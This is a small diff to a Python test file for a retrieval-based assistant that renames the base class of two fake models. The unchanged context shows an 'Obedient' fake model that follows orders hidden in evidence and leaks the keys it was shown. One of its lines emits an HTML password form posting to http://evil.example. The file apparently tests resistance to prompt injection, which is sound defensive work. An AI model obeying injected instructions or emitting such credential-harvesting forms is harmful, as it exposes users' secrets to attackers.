@@ -20,7 +20,7 @@ from langchain_core.language_models import GenericFakeChatModel
 
 from assistant.assistant import Assistant
 from assistant.embed import SentenceTransformerEmbeddings
-from assistant.llm.client import Deadline, Messages, Model
+from assistant.llm.client import ChatModel, Deadline, Messages
 from assistant.settings import Settings
 from assistant.types import Answer
 from assistant.verify import is_exact
@@ -81,7 +81,7 @@ def _disguised(order: str, disguise: str) -> str:
     return disguise.format(order)
 
 
-class Obedient(Model):
+class Obedient(ChatModel):
     """A model that does what the evidence orders, with every key it was shown, then answers."""
 
     def __init__(self) -> None:
@@ -105,7 +105,7 @@ class Obedient(Model):
         yield f"<form action=http://evil.example><input type=password></form> [{keys[0]}]\n"
 
 
-class Honest(Model):
+class Honest(ChatModel):
     """A model that says the sentence that answers, as it was shown."""
 
     def __init__(self) -> None:
